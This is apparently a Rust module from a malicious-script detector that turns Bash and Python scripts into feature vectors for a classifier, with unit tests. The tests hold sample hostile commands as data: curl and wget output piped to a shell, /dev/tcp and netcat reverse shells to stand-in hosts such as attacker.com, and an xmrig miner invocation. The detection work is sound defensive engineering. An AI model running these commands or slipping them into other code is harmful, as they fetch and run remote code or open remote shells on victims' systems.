//! The feature vector: the one implementation used both to build the training
//! matrix (`cargo xtask featurize`) and to score at run time, so the two cannot drift.
//!
//! Layout, in order:
//! 1. one 0/1 value per named indicator (`indicators::INDICATORS`),
//! 2. a few numeric shape features, each scaled to about [0, 1],
//! 3. `HASH_DIM` buckets of hashed token unigrams and bigrams (log counts,
//!    L2-normalised to `HASH_NORM` over the block), shared by both languages, over the first
//!    `TOKEN_BYTES`.

use std::sync::OnceLock;

use crate::indicators::{Indicators, INDICATORS};
use crate::lang::Lang;
use crate::tokens::{for_each_token, hash_lower, mix, try_for_each_token, Token};

/// Bump when anything changes the vector for the same text; the model records it.
pub const FEATURE_VERSION: u32 = 9;
pub const HASH_BITS: u32 = 12;
pub const HASH_DIM: usize = 1 << HASH_BITS;
/// Only the first 64 KiB of a script are scored.
pub const MAX_BYTES: usize = 64 * 1024;
/// L2 norm of the hashed block. Below 1 so that, under the same regularisation,
/// the model leans on the named indicators, which carry over between sources
/// better than the token style of any one source does (chosen by by-source validation).
pub const HASH_NORM: f32 = 0.5;
/// Token n-grams are counted over the first 16 KiB (indicators see all 64 KiB):
/// style is settled by then, and it keeps a 64 KiB script within the latency budget.
pub const TOKEN_BYTES: usize = 16 * 1024;

/// Token evidence ("contains `x`") is looked up in the first 4 KiB only: a
/// second tokenizer pass over 16 KiB costs as much as featurizing. A hashed
/// feature whose first n-gram lies further in gives no reason (the named
/// indicators always do).
pub const EVIDENCE_BYTES: usize = 4 * 1024;

const BIGRAM_SALT: u64 = 0x9e37_79b9_7f4a_7c15;

/// Numeric features: (name, analyst words when it drives a score).
pub const NUMERIC: &[(&str, &str)] = &[
    // No length, line-length or entropy features: in the corpus those tell
    // sources apart (one-liners vs library files), not intent.
    (
        "punct_ratio",
        "unusually dense punctuation (obfuscated code)",
    ),
    ("longest_b64_run", "contains a long base64-like string"),
    ("hex_escape_density", "many \\x escape sequences"),
    ("non_ascii_ratio", "many non-ASCII characters"),
    ("is_python", "Python code"),
];

pub const fn indicator_offset() -> usize {
    0
}

pub const fn numeric_offset() -> usize {
    INDICATORS.len()
}

pub const fn hash_offset() -> usize {
    INDICATORS.len() + NUMERIC.len()
}

/// Length of the feature vector.
pub const fn dim() -> usize {
    hash_offset() + HASH_DIM
}

/// The name of every feature, in vector order (`ind:…`, `num:…`, `hash:…`).
pub fn feature_names() -> Vec<String> {
    let mut names: Vec<String> = INDICATORS.iter().map(|d| format!("ind:{}", d.id)).collect();
    names.extend(NUMERIC.iter().map(|(n, _)| format!("num:{n}")));
    names.extend((0..HASH_DIM).map(|i| format!("hash:{i}")));
    names
}

/// Identifies the feature layout; a model trained on another layout is refused.
pub fn schema_fingerprint() -> String {
    let names = feature_names().join("\n");
    format!("v{FEATURE_VERSION}-{:016x}", hash_lower(names.as_bytes()))
}

/// The scored prefix of a text: at most `MAX_BYTES`, cut on a character boundary.
pub fn scored_prefix(text: &str) -> &str {
    prefix(text, MAX_BYTES)
}

/// At most `max` bytes of `text`, cut on a character boundary.
fn prefix(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Both languages share one token space: Python droppers carry shell commands
/// (`os.system("curl ... | sh")`), and what the model learns from malicious
/// Bash then counts for them too (by-source validation preferred this to
/// separate spaces). The language itself is the `is_python` feature.
fn lang_salt(_lang: Lang) -> u64 {
    0
}

fn unigram_bucket(salt: u64, hash: u64) -> usize {
    (mix(hash ^ salt) as usize) & (HASH_DIM - 1)
}

fn bigram_bucket(salt: u64, prev: u64, hash: u64) -> usize {
    (mix(prev.rotate_left(23) ^ hash ^ salt ^ BIGRAM_SALT) as usize) & (HASH_DIM - 1)
}

// A bucket counts at most every unigram and bigram of `TOKEN_BYTES`: it fits the u16 counts.
const _: () = assert!(2 * TOKEN_BYTES < u16::MAX as usize);

/// The feature vector of `text` scored as `lang`.
pub fn featurize(text: &str, lang: Lang) -> Vec<f32> {
    let text = scored_prefix(text);
    let mut out = vec![0f32; dim()];

    for (i, on) in Indicators::get().evaluate(text).into_iter().enumerate() {
        if on {
            out[indicator_offset() + i] = 1.0;
        }
    }

    let shape = shape_stats(text);
    let numeric = [
        shape.punct_ratio,
        log_scale(shape.longest_b64_run),
        shape.hex_escape_density,
        shape.non_ascii_ratio,
        if lang == Lang::Python { 1.0 } else { 0.0 },
    ];
    debug_assert_eq!(numeric.len(), NUMERIC.len());
    out[numeric_offset()..hash_offset()].copy_from_slice(&numeric);

    let hashed = &mut out[hash_offset()..];
    let salt = lang_salt(lang);
    // Integer counts (exact, like the float counts they replace, and a 1-cycle
    // add), and the touched buckets as a bitmap: normalising visits them in
    // ascending order (the same float sum whatever order tokens came in) without a sort.
    let mut counts = [0u16; HASH_DIM];
    let mut touched = [0u64; HASH_DIM / 64];
    let mut bump = |bucket: usize| {
        counts[bucket] += 1;
        touched[bucket / 64] |= 1 << (bucket % 64);
    };
    let mut prev: Option<u64> = None;
    for_each_token(prefix(text, TOKEN_BYTES), |tok| {
        bump(unigram_bucket(salt, tok.hash));
        if let Some(p) = prev {
            bump(bigram_bucket(salt, p, tok.hash));
        }
        prev = Some(tok.hash);
    });
    let mut norm = 0f32;
    for_each_set_bit(&touched, |b| {
        let v = ln_1p_count(f32::from(counts[b]));
        hashed[b] = v;
        norm += v * v;
    });
    if norm > 0.0 {
        let inv = HASH_NORM / norm.sqrt();
        for_each_set_bit(&touched, |b| hashed[b] *= inv);
    }
    out
}

/// Calls `f` with the index of every set bit of `words`, in ascending order.
fn for_each_set_bit(words: &[u64], mut f: impl FnMut(usize)) {
    for (w, &word) in words.iter().enumerate() {
        let mut bits = word;
        while bits != 0 {
            f(w * 64 + bits.trailing_zeros() as usize);
            bits &= bits - 1;
        }
    }
}

/// `count.ln_1p()` for a token count, from a table for the usual small counts
/// (the same function on the same inputs, so the same values).
fn ln_1p_count(count: f32) -> f32 {
    const TABLED: usize = 1024;
    static TABLE: OnceLock<Vec<f32>> = OnceLock::new();
    let table = TABLE.get_or_init(|| (0..TABLED).map(|k| (k as f32).ln_1p()).collect());
    let k = count as usize;
    if k < TABLED && k as f32 == count {
        table[k]
    } else {
        count.ln_1p()
    }
}

/// ln(1+x) scaled so that 64 KiB maps to 1.
fn log_scale(x: usize) -> f32 {
    ((x as f32).ln_1p() / (65537f32).ln()).min(1.0)
}

struct Shape {
    punct_ratio: f32,
    longest_b64_run: usize,
    hex_escape_density: f32,
    non_ascii_ratio: f32,
}

/// One pass over the bytes for the numeric features, 64 bytes at a time: each
/// block becomes one bit mask per byte class (SSE2 compares on x86_64), and
/// counts and base64 runs are worked out on the masks, so the cost per byte is
/// a few instructions with no branch on the data.
fn shape_stats(text: &str) -> Shape {
    let bytes = text.as_bytes();
    let mut state = ShapeScan::default();
    let mut blocks = bytes.chunks_exact(64);
    for block in &mut blocks {
        state.block(&class_masks(block.try_into().expect("64-byte block")));
    }
    let tail = blocks.remainder();
    if !tail.is_empty() {
        // Zero padding: NUL is in no class, so it ends runs and counts nothing.
        let mut padded = [0u8; 64];
        padded[..tail.len()].copy_from_slice(tail);
        state.block(&class_masks(&padded));
    }
    let longest_b64_run = state.finish();
    let n = bytes.len().max(1) as f32;
    Shape {
        punct_ratio: state.punct as f32 / n,
        longest_b64_run,
        hex_escape_density: (state.hex_escapes as f32 * 4.0 / n).min(1.0),
        non_ascii_ratio: state.non_ascii as f32 / n,
    }
}

/// Bit i of each mask describes byte i of a 64-byte block.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
struct ClassMasks {
    punct: u64,
    non_ascii: u64,
    b64: u64,
    upper: u64,
    lower: u64,
    digit: u64,
    backslash: u64,
    /// Lowercase `x` only: `\x` escapes are matched case-sensitively.
    x: u64,
}

/// The byte-class table and the portable mask builder (the SSE2 version on
/// x86_64 computes the same classes with compares).
#[cfg(any(test, not(target_arch = "x86_64")))]
mod portable {
    use super::ClassMasks;

    pub(super) const PUNCT: u8 = 1;
    pub(super) const NON_ASCII: u8 = 2;
    pub(super) const B64: u8 = 4;
    pub(super) const UPPER: u8 = 8;
    pub(super) const LOWER: u8 = 16;
    pub(super) const DIGIT: u8 = 32;

    const fn byte_classes() -> [u8; 256] {
        let mut table = [0u8; 256];
        let mut i = 0;
        while i < 256 {
            let b = i as u8;
            let mut c = 0;
            if b >= 0x80 {
                c |= NON_ASCII;
            } else if b.is_ascii_punctuation() {
                c |= PUNCT;
            }
            if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_') {
                c |= B64;
            }
            if b.is_ascii_uppercase() {
                c |= UPPER;
            } else if b.is_ascii_lowercase() {
                c |= LOWER;
            } else if b.is_ascii_digit() {
                c |= DIGIT;
            }
            table[i] = c;
            i += 1;
        }
        table
    }

    pub(super) static BYTE_CLASSES: [u8; 256] = byte_classes();

    /// The class masks of a block, one table lookup per byte (the portable reference).
    pub(super) fn class_masks_scalar(block: &[u8; 64]) -> ClassMasks {
        let mut m = ClassMasks::default();
        for (i, &b) in block.iter().enumerate() {
            let c = BYTE_CLASSES[b as usize];
            let bit = |on: bool| u64::from(on) << i;
            m.punct |= bit(c & PUNCT != 0);
            m.non_ascii |= bit(c & NON_ASCII != 0);
            m.b64 |= bit(c & B64 != 0);
            m.upper |= bit(c & UPPER != 0);
            m.lower |= bit(c & LOWER != 0);
            m.digit |= bit(c & DIGIT != 0);
            m.backslash |= bit(b == b'\\');
            m.x |= bit(b == b'x');
        }
        m
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn class_masks(block: &[u8; 64]) -> ClassMasks {
    portable::class_masks_scalar(block)
}

/// SSE2 is part of x86_64, so no run-time detection is needed.
#[cfg(target_arch = "x86_64")]
fn class_masks(block: &[u8; 64]) -> ClassMasks {
    use std::arch::x86_64::*;
    let mut m = ClassMasks::default();
    for lane in 0..4 {
        // SAFETY: SSE2 is always available on x86_64; the load reads 16 bytes inside `block`.
        unsafe {
            let v = _mm_loadu_si128(block.as_ptr().add(lane * 16) as *const __m128i);
            let splat = |b: u8| _mm_set1_epi8(b as i8);
            // Signed compares: bytes >= 0x80 are negative and fall outside every ASCII range.
            let in_range = |lo: u8, hi: u8| {
                _mm_and_si128(
                    _mm_cmpgt_epi8(v, splat(lo - 1)),
                    _mm_cmplt_epi8(v, splat(hi + 1)),
                )
            };
            let eq = |b: u8| _mm_cmpeq_epi8(v, splat(b));
            let upper = in_range(b'A', b'Z');
            let lower = in_range(b'a', b'z');
            let digit = in_range(b'0', b'9');
            let alnum = _mm_or_si128(_mm_or_si128(upper, lower), digit);
            let b64_extra = _mm_or_si128(
                _mm_or_si128(eq(b'+'), eq(b'/')),
                _mm_or_si128(_mm_or_si128(eq(b'='), eq(b'-')), eq(b'_')),
            );
            // ASCII punctuation: visible ASCII that is not alphanumeric.
            let punct = _mm_andnot_si128(alnum, in_range(0x21, 0x7e));
            let bits = |x: __m128i| u64::from(_mm_movemask_epi8(x) as u16) << (lane * 16);
            m.punct |= bits(punct);
            m.non_ascii |= bits(v);
            m.b64 |= bits(_mm_or_si128(alnum, b64_extra));
            m.upper |= bits(upper);
            m.lower |= bits(lower);
            m.digit |= bits(digit);
            m.backslash |= bits(eq(b'\\'));
            m.x |= bits(eq(b'x'));
        }
    }
    m
}

/// The shape statistics carried from one 64-byte block to the next.
#[derive(Default)]
struct ShapeScan {
    punct: usize,
    non_ascii: usize,
    hex_escapes: usize,
    /// The last byte of the previous block was a `\`.
    backslash_carry: bool,
    longest_b64_run: usize,
    /// Length of the base64 run still open at the end of the previous block,
    /// and which of upper case, lower case, digit it holds so far.
    open_len: usize,
    open_upper: bool,
    open_lower: bool,
    open_digit: bool,
}

impl ShapeScan {
    fn block(&mut self, m: &ClassMasks) {
        if m.b64 & 1 == 0 {
            self.close_open_run();
        }
        self.punct += m.punct.count_ones() as usize;
        self.non_ascii += m.non_ascii.count_ones() as usize;
        // `\x` never overlaps itself, so occurrences are positions of `\` followed by `x`.
        self.hex_escapes += (m.backslash & (m.x >> 1)).count_ones() as usize
            + usize::from(self.backslash_carry && m.x & 1 != 0);
        self.backslash_carry = m.backslash >> 63 != 0;

        // Base64 runs: a run counts (with its whole length) once it holds an
        // upper-case letter, a lower-case letter and a digit. Each class is
        // carried forward to the end of its run (a segmented prefix OR), so
        // a run qualifies iff all three reach its last byte.
        let b = m.b64;
        let run_from_before = u64::from(self.open_len > 0) & b; // bit 0 at most
        let seed = |open: bool| if open { run_from_before } else { 0 };
        let windows = RunWindows::new(b);
        let upper = windows.fill(m.upper | seed(self.open_upper));
        let lower = windows.fill(m.lower | seed(self.open_lower));
        let digit = windows.fill(m.digit | seed(self.open_digit));
        let full = upper & lower & digit;
        // Runs ending inside this block (bit 63 is settled by the next block).
        let ends = b & !(b >> 1) & !(1 << 63);
        let mut qualifying = ends & full;
        while qualifying != 0 {
            let end = qualifying.trailing_zeros() as usize;
            qualifying &= qualifying - 1;
            self.longest_b64_run = self.longest_b64_run.max(self.run_len(b, end));
        }
        if b >> 63 != 0 {
            self.open_len = self.run_len(b, 63);
            self.open_upper = upper >> 63 != 0;
            self.open_lower = lower >> 63 != 0;
            self.open_digit = digit >> 63 != 0;
        } else {
            self.open_len = 0;
            (self.open_upper, self.open_lower, self.open_digit) = (false, false, false);
        }
    }

    /// Length of the run of `b` that ends at bit `end`, including its part in earlier blocks.
    fn run_len(&self, b: u64, end: usize) -> usize {
        let below = if end == 63 {
            u64::MAX >> 1
        } else {
            (1u64 << end) - 1
        };
        let gaps = !b & below;
        if gaps == 0 {
            end + 1 + self.open_len
        } else {
            end - (63 - gaps.leading_zeros() as usize)
        }
    }

    /// Ends the run left open by the previous block (it ended on that block's last byte).
    fn close_open_run(&mut self) {
        if self.open_upper && self.open_lower && self.open_digit {
            self.longest_b64_run = self.longest_b64_run.max(self.open_len);
        }
        self.open_len = 0;
        (self.open_upper, self.open_lower, self.open_digit) = (false, false, false);
    }

    /// The longest qualifying run, counting a run still open at the end of the text.
    fn finish(&mut self) -> usize {
        self.close_open_run();
        self.longest_b64_run
    }
}

/// `q[k]`: bit i set iff the 2^k bits ending at i are all in the run mask.
struct RunWindows {
    q: [u64; 6],
}

impl RunWindows {
    fn new(b: u64) -> Self {
        let mut q = [b; 6];
        for k in 1..6 {
            q[k] = q[k - 1] & (q[k - 1] << (1 << (k - 1)));
        }
        RunWindows { q }
    }

    /// Bit i set iff a bit of `x` lies at or before i within the same run.
    fn fill(&self, x: u64) -> u64 {
        let mut f = x & self.q[0];
        for k in 0..6 {
            f |= (f << (1 << k)) & self.q[k];
        }
        f
    }
}

/// What a feature index means to an analyst, given the text it was computed on.
pub fn describe(index: usize, text: &str, lang: Lang) -> String {
    let bucket = index.saturating_sub(hash_offset());
    describe_all(&[index], text, lang)
        .remove(0)
        .unwrap_or_else(|| format!("token pattern #{bucket}"))
}

/// `describe` for several features, with one pass over the text for all hashed
/// ones. None for a token n-gram that says nothing to a reader (only
/// punctuation, such as `/` or `| (`) or that is not in the text.
pub fn describe_all(indices: &[usize], text: &str, lang: Lang) -> Vec<Option<String>> {
    let buckets: Vec<usize> = indices
        .iter()
        .filter(|&&i| i >= hash_offset())
        .map(|&i| i - hash_offset())
        .collect();
    let tokens = tokens_in_buckets(prefix(text, EVIDENCE_BYTES), lang, &buckets);
    indices
        .iter()
        .map(|&index| {
            if index < numeric_offset() {
                Some(INDICATORS[index - indicator_offset()].evidence.to_owned())
            } else if index < hash_offset() {
                Some(NUMERIC[index - numeric_offset()].1.to_owned())
            } else {
                let bucket = index - hash_offset();
                tokens
                    .iter()
                    .find(|(b, t)| *b == bucket && t.bytes().any(|c| c.is_ascii_alphanumeric()))
                    .map(|(_, t)| format!("contains `{t}`"))
            }
        })
        .collect()
}

/// For each bucket, the first unigram or bigram of `text` landing in it, as the model sees it.
fn tokens_in_buckets(text: &str, lang: Lang, buckets: &[usize]) -> Vec<(usize, String)> {
    let salt = lang_salt(lang);
    let mut found: Vec<(usize, String)> = Vec::new();
    if buckets.is_empty() {
        return found;
    }
    let mut prev: Option<Token<'_>> = None;
    // Stops as soon as every bucket has its n-gram.
    try_for_each_token(text, |tok| {
        let uni = unigram_bucket(salt, tok.hash);
        if buckets.contains(&uni) && !found.iter().any(|(b, _)| *b == uni) {
            found.push((uni, tok.display()));
        }
        if let Some(p) = &prev {
            let bi = bigram_bucket(salt, p.hash, tok.hash);
            if buckets.contains(&bi) && !found.iter().any(|(b, _)| *b == bi) {
                found.push((bi, format!("{} {}", p.display(), tok.display())));
            }
        }
        prev = Some(tok);
        found.len() < buckets.len()
    });
    found
}

#[cfg(test)]
mod tests {
    use super::portable::*;
    use super::*;

    fn indicator(v: &[f32], id: &str) -> f32 {
        let i = INDICATORS.iter().position(|d| d.id == id).unwrap();
        v[indicator_offset() + i]
    }

    #[test]
    fn layout_is_consistent() {
        assert_eq!(feature_names().len(), dim());
        let v = featurize("echo hi", Lang::Bash);
        assert_eq!(v.len(), dim());
        assert!(schema_fingerprint().starts_with(&format!("v{FEATURE_VERSION}-")));
    }

    #[test]
    fn deterministic() {
        let s = "curl -s http://203.0.113.9/x.sh | bash";
        assert_eq!(featurize(s, Lang::Bash), featurize(s, Lang::Bash));
    }

    #[test]
    fn hashed_block_is_unit_norm() {
        let v = featurize("import os\nos.system('id')\n", Lang::Python);
        let norm: f32 = v[hash_offset()..].iter().map(|x| x * x).sum();
        assert!((norm - HASH_NORM * HASH_NORM).abs() < 1e-5, "{norm}");
        let empty = featurize("", Lang::Bash);
        assert!(empty.iter().all(|x| *x == 0.0));
    }

    #[test]
    fn languages_share_tokens_and_differ_in_is_python() {
        let a = featurize("exec foo", Lang::Bash);
        let b = featurize("exec foo", Lang::Python);
        assert!(a[hash_offset()..] == b[hash_offset()..]);
        assert_eq!(a[hash_offset() - 1], 0.0);
        assert_eq!(b[hash_offset() - 1], 1.0);
    }

    #[test]
    fn placeholders_do_not_change_the_vector() {
        // Cheat-sheet literals and real values give the same features.
        // (Shape statistics may differ; indicators and tokens may not.)
        let same = |x: &str, y: &str| {
            let (a, b) = (featurize(x, Lang::Bash), featurize(y, Lang::Bash));
            a[..numeric_offset()] == b[..numeric_offset()]
                && a[hash_offset()..] == b[hash_offset()..]
        };
        assert!(same(
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "bash -i >& /dev/tcp/45.77.1.20/8443 0>&1"
        ));
        assert!(same(
            "nc attacker.com 9001 -e /bin/sh",
            "nc lhost 1 -e /bin/sh"
        ));
    }

    #[test]
    fn indicators_land_in_the_vector() {
        let v = featurize("wget -qO- http://h/m | sh", Lang::Bash);
        assert_eq!(indicator(&v, "download_pipe_interpreter"), 1.0);
        assert_eq!(indicator(&v, "dev_tcp"), 0.0);
    }

    #[test]
    fn shape_features() {
        let blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkwYWJjZGVmZ2hpams=".repeat(4);
        let v = featurize(&format!("x = '{blob}'"), Lang::Python);
        assert!(
            v[numeric_offset() + 1] > 0.4,
            "b64 run {}",
            v[numeric_offset() + 1]
        );
        let plain = featurize(
            "/usr/lib/python3/dist-packages/foo/bar/baz/quux/long/path",
            Lang::Bash,
        );
        assert_eq!(plain[numeric_offset() + 1], 0.0, "paths are not base64");
        let punct = v[numeric_offset()];
        assert!(punct > 0.0 && punct < 0.2, "{punct}");
    }

    #[test]
    fn long_scripts_are_cut_on_a_char_boundary() {
        let text = "é".repeat(MAX_BYTES);
        let cut = scored_prefix(&text);
        assert!(cut.len() <= MAX_BYTES && cut.len() > MAX_BYTES - 4);
        let _ = featurize(&text, Lang::Bash);
    }

    #[test]
    fn describe_names_tokens_and_indicators() {
        let text = "xmrig --donate-level 1";
        let v = featurize(text, Lang::Bash);
        let bucket = (hash_offset()..dim()).find(|&i| v[i] > 0.0).unwrap();
        assert!(describe(bucket, text, Lang::Bash).starts_with("contains `"));
        let i = INDICATORS
            .iter()
            .position(|d| d.id == "crypto_miner")
            .unwrap();
        assert!(describe(i, text, Lang::Bash).contains("miner"));
    }

    #[test]
    fn ln_1p_table_equals_ln_1p() {
        for k in 0..3000u32 {
            let x = k as f32;
            assert_eq!(ln_1p_count(x).to_bits(), x.ln_1p().to_bits(), "{k}");
        }
        for x in [0.5f32, 1e6, 1023.5] {
            assert_eq!(ln_1p_count(x).to_bits(), x.ln_1p().to_bits(), "{x}");
        }
    }

    #[test]
    fn set_bits_come_in_ascending_order() {
        let mut words = [0u64; 4];
        let want = [0usize, 5, 63, 64, 130, 255];
        for b in want {
            words[b / 64] |= 1 << (b % 64);
        }
        let mut got = Vec::new();
        for_each_set_bit(&words, |b| got.push(b));
        assert_eq!(got, want);
    }

    /// The byte-at-a-time version `shape_stats` replaced: the reference its tests compare against.
    #[cfg(test)]
    fn shape_stats_reference(text: &str) -> Shape {
        let bytes = text.as_bytes();
        let (mut punct, mut non_ascii) = (0usize, 0usize);
        // A base64 run counts only if it mixes upper case, lower case and digits,
        // which paths and long identifiers rarely do.
        // Branch-free: whether a byte continues a run is unpredictable, and a
        // mispredicted branch per byte would dominate the cost. The run's mix only
        // grows, so the longest run whose mix is complete is the longest prefix of
        // a run with a complete mix.
        let (mut run, mut run_mix, mut longest_b64_run) = (0usize, 0u8, 0usize);
        const FULL: u8 = UPPER | LOWER | DIGIT;
        for &b in bytes {
            let c = BYTE_CLASSES[b as usize];
            punct += usize::from(c & PUNCT != 0);
            non_ascii += usize::from(c & NON_ASCII != 0);
            // All ones inside a run, zero outside (masks, not multiplies: shorter dependency chain).
            let in_run = 0usize.wrapping_sub(usize::from(c & B64 != 0));
            run = (run + 1) & in_run;
            run_mix = (run_mix | c) & in_run as u8;
            let full = 0usize.wrapping_sub(usize::from(run_mix & FULL == FULL));
            longest_b64_run = longest_b64_run.max(run & full);
        }
        let hex_escapes = memchr::memmem::find_iter(bytes, b"\\x").count();
        let n = bytes.len().max(1) as f32;
        Shape {
            punct_ratio: punct as f32 / n,
            longest_b64_run,
            hex_escape_density: (hex_escapes as f32 * 4.0 / n).min(1.0),
            non_ascii_ratio: non_ascii as f32 / n,
        }
    }

    /// A deterministic stream of test bytes (xorshift), without a dev-dependency.
    fn pseudo_random(seed: u64) -> impl FnMut() -> u64 {
        let mut x = seed | 1;
        move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        }
    }

    #[test]
    fn shape_stats_equal_the_byte_loop() {
        let mut next = pseudo_random(42);
        // Alphabets that make runs of every kind, long and short, across block edges.
        let alphabets: [&[u8]; 4] = [
            b"aB3+/=-_ \\x\n.",
            b"aaaaaaaaaaaaaaaaaaaaB3",
            b"AZaz09+/ \\xX\x80\xff\t",
            b"abcXYZ0123456789",
        ];
        let mut texts: Vec<String> = vec![String::new(), "\\x".into(), "aB3".into()];
        for round in 0..3000 {
            let alphabet = alphabets[round % alphabets.len()];
            let len = (next() % 400) as usize;
            let bytes: Vec<u8> = (0..len)
                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                .collect();
            texts.push(String::from_utf8_lossy(&bytes).into_owned());
        }
        // Runs ending exactly on block edges, and one spanning several blocks.
        for len in [63, 64, 65, 127, 128, 129, 200] {
            texts.push(format!("{}aB3", "Q".repeat(len - 3)));
            texts.push(format!("{} {}", "aB3".repeat(len / 3), "x".repeat(len)));
            texts.push(format!("{}\\x{}", " ".repeat(len - 1), "aB3".repeat(50)));
        }
        for t in &texts {
            let (a, b) = (shape_stats(t), shape_stats_reference(t));
            assert_eq!(a.punct_ratio.to_bits(), b.punct_ratio.to_bits(), "{t:?}");
            assert_eq!(a.longest_b64_run, b.longest_b64_run, "{t:?}");
            assert_eq!(
                a.hex_escape_density.to_bits(),
                b.hex_escape_density.to_bits(),
                "{t:?}"
            );
            assert_eq!(
                a.non_ascii_ratio.to_bits(),
                b.non_ascii_ratio.to_bits(),
                "{t:?}"
            );
        }
    }

    #[test]
    fn class_masks_equal_the_table() {
        let mut next = pseudo_random(7);
        let mut blocks: Vec<[u8; 64]> = (0..4)
            .map(|k| std::array::from_fn(|i| (k * 64 + i) as u8))
            .collect();
        for _ in 0..500 {
            blocks.push(std::array::from_fn(|_| next() as u8));
        }
        for block in &blocks {
            assert_eq!(class_masks(block), class_masks_scalar(block), "{block:?}");
        }
    }
}
